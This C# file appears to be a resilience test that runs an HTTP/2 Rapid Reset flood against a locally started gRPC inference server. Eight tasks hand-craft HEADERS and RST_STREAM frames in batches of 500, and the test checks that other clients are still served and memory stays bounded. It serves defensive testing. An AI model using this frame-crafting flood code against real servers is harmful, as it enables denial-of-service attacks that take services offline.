using System.Buffers.Binary;
using System.Text;
using Tritone.Faults.Servers;
using Tritone.Faults.Traffic;

namespace Tritone.Faults.Clients;

/// <summary>Streams of HTTP/2 that are opened and reset as fast as a socket takes it, on several connections again and again: others are served, memory stays.</summary>
internal sealed class RapidReset : IScenario
{
    private const int Attackers = 8;
    private const int StreamsInOneWrite = 500;
    private const double MoreMemory = 128;
    private const byte HeadersFrame = 1;
    private const byte ResetFrame = 3;
    private const byte SettingsFrame = 4;

    public string Name => "http2-rapid-reset";

    public async Task RunAsync(FaultRun run, Findings findings)
    {
        await using var server = await ServerProcess.StartAsync(TinyModel.Write(run.Directory["models"]));
        var sheet = await AnswerSheet.FillInAsync(server, TinyModel.Name, Question.Draw(5, 3, 12), run.IsSabotaged);
        var tally = new Tally();
        var askers = ClosedLoop.AllTransports(server, sheet);
        await using var memory = new MemoryWatch(server);
        var load = new ClosedLoop(askers, sheet.Questions, tally, clients: 1);
        using var end = new CancellationTokenSource(run.Lasting(8));
        var attacks = await Task.WhenAll(Enumerable.Range(0, Attackers).Select(_ => AttackAsync(server, end.Token)));
        await load.StopAsync();
        foreach (var asker in askers)
        {
            asker.Dispose();
        }

        tally.Report(findings, OutcomeKind.Refused, OutcomeKind.Failed, OutcomeKind.Lost);
        findings.Count("streams reset", attacks.Sum(attack => attack.Streams));
        findings.Count("connections ended by the server", attacks.Sum(attack => attack.Ended));
        findings.Note("memory", memory.ToString());
        findings.Require(attacks.Sum(attack => attack.Streams) > 1000, "there was hardly an attack");
        findings.Require(memory.Most - memory.Before < MoreMemory, $"memory: {memory}");
    }

    private static async Task<(long Streams, long Ended)> AttackAsync(ServerProcess server, CancellationToken cancellationToken)
    {
        var (streams, ended) = (0L, 0L);
        while (!cancellationToken.IsCancellationRequested)
        {
            using var client = await RawClient.ConnectAsync(server.Grpc);
            await client.TrySendAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(SettingsFrame, 0, 0, [])]);
            var isOpen = true;
            var ends = client.EndsAsync(TimeSpan.FromMinutes(1));
            for (var stream = 1; isOpen && !cancellationToken.IsCancellationRequested; stream += 2 * StreamsInOneWrite)
            {
                var first = stream;
                isOpen = await client.TrySendAsync(Enumerable.Range(0, StreamsInOneWrite).SelectMany(i => OpenAndReset(server, first + (2 * i))).ToArray()) && !ends.IsCompleted;
                streams += StreamsInOneWrite;
            }

            ended += isOpen ? 0 : 1;
        }

        return (streams, ended);
    }

    // END_HEADERS without END_STREAM, then RST_STREAM with CANCEL.
    private static byte[] OpenAndReset(ServerProcess server, int stream)
        => [.. Frame(HeadersFrame, 4, stream, Headers(server.Grpc.Authority)), .. Frame(ResetFrame, 0, stream, [0, 0, 0, 8])];

    // HPACK without compression: each field a literal that is not indexed (RFC 7541, section 6.2.2).
    private static byte[] Headers(string authority)
        => [.. Field(":method", "POST"), .. Field(":scheme", "http"), .. Field(":path", "/inference.GRPCInferenceService/ModelInfer"), .. Field(":authority", authority), .. Field("content-type", "application/grpc"), .. Field("te", "trailers")];

    private static byte[] Field(string name, string value) => [0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
